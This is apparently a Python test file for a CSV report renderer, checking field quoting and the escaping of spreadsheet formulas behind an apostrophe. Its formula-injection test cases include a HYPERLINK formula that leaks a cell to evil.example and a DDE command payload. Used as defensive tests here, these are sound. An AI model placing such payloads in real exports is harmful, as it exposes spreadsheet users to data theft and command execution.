import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.entities import Ref
from app.reports import csv as tables

FIELDS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))


def read(text):
    """The rows of a table as another program reads them."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize(
    ("value", "field"),
    [
        pytest.param("payments", '"payments"', id="plain"),
        pytest.param("a, b", '"a, b"', id="comma"),
        pytest.param('a "b" c', '"a ""b"" c"', id="quotes"),
        pytest.param("a\nb", '"a\nb"', id="line break"),
        pytest.param("Größe 支払い", '"Größe 支払い"', id="letters of any script"),
        pytest.param("", '""', id="nothing"),
        pytest.param(None, '""', id="not known"),
        pytest.param(3, '"3"', id="number"),
        pytest.param(-3, '"-3"', id="number below zero"),
        pytest.param(99.9, '"99.9"', id="fraction"),
        pytest.param(True, '"true"', id="yes"),
        pytest.param(False, '"false"', id="no"),
        pytest.param(Ref("group", "default", "a"), '"group:default/a"', id="reference"),
        pytest.param("a=b", '"a=b"', id="a sign further on"),
        pytest.param("'=1", '"\'=1"', id="an apostrophe of one's own"),
    ],
)
def test_fields(value, field):
    """Every field is quoted; what is not known is empty."""
    assert tables.render(["Name"], [[value]]) == f'"Name"\r\n{field}\r\n'


@pytest.mark.parametrize(
    "text",
    [
        pytest.param('=HYPERLINK("https://evil.example?"&A1,"x")', id="X10 a link"),
        pytest.param("=cmd|' /C calc'!A0", id="X10 a command"),
        pytest.param("+1+1", id="X10 plus"),
        pytest.param("-1+1", id="X10 minus"),
        pytest.param("@SUM(1,1)", id="X10 at"),
        pytest.param("\t=1+1", id="X10 tab"),
        pytest.param("\r=1+1", id="X10 carriage return"),
        pytest.param("\n=1+1", id="X10 line feed"),
        pytest.param("\uff1d1+1", id="X10 full width"),
        pytest.param('=1","=2', id="X10 a field that ends itself"),
        pytest.param("-3", id="X10 a number that an author wrote"),
    ],
)
def test_formulas(text):
    """What a spreadsheet would work out is text behind an apostrophe, in a header as in a row."""
    assert read(tables.render([text], [[text, "x"]])) == [[f"'{text}"], [f"'{text}", "x"]]


@given(st.lists(FIELDS, min_size=1), st.lists(st.lists(FIELDS, min_size=1)))
def test_what_is_read_is_what_was_written(columns, rows):
    """Another reader finds the same rows and fields, and none that begins as a formula does."""
    found = read(tables.render(columns, rows))

    assert [[field.removeprefix("'") for field in row] for row in found] == [
        [field.removeprefix("'") for field in row] for row in (columns, *rows)
    ]
    assert not [field for row in found for field in row if field[:1] in set("=+-@\t\r\n")]
